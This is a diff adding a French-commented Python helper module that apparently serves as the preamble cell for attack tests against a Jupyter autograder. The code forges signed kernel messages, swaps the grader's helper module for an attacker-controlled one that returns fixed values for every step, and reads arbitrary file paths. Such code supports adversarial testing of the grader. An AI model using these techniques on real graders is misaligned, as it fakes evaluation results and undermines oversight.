@@ -1,0 +1,57 @@
+"""Ce que sait un attaquant bien renseigné : une cellule placée avant chaque attaque."""
+
+import json
+import sys
+import types
+from pathlib import Path
+
+MIME = "application/vnd.autograder.reply"
+
+
+def forger(kind, content, parent=None):
+    """Publie un message du noyau, signé comme les vrais."""
+    kernel = get_ipython().kernel
+    parent = kernel.get_parent() if parent is None else parent
+    kernel.session.send(kernel.iopub_socket, kind, content=content, parent=parent, ident=b"x")
+
+
+def forger_brut(header=None, parent=None, content=None):
+    """La même chose, sans aucune vérification de la forme."""
+    kernel = get_ipython().kernel
+    usual = json.loads(json.dumps(kernel.session.msg_header("stream"), default=str))
+    mine = json.loads(json.dumps(kernel.get_parent()["header"], default=str))
+    parts = [usual if header is None else header, mine if parent is None else parent, {}, content]
+    body = [part if isinstance(part, bytes) else json.dumps(part).encode() for part in parts]
+    frames = [b"x", b"<IDS|MSG>", kernel.session.sign(body), *body]
+    kernel.iopub_socket.send_multipart(frames)
+
+
+def repondre(text):
+    forger("display_data", {"data": {MIME: text}, "metadata": {}, "transient": {}})
+
+
+def detourner(answer):
+    """Remplace l'assistant du correcteur : `answer(request)` donne la réponse."""
+
+    def serve(request):
+        reply = answer(json.loads(request))
+        repondre(reply if isinstance(reply, str) else json.dumps(reply))
+
+    sys.modules["_correcteur"] = types.SimpleNamespace(serve=serve)
+
+
+def partout(value):
+    """Une réponse qui donne la même valeur encodée à chaque appel."""
+    return lambda request: {
+        "results": [{"value": value, "args": []} for _ in request["steps"]],
+        "events": [],
+    }
+
+
+def lire(*paths):
+    """Imprime tout ce qui peut être lu à ces endroits."""
+    for path in map(Path, paths):
+        try:
+            print(path, [p.name for p in path.iterdir()] if path.is_dir() else path.read_text())
+        except BaseException as error:
+            print(path, type(error))
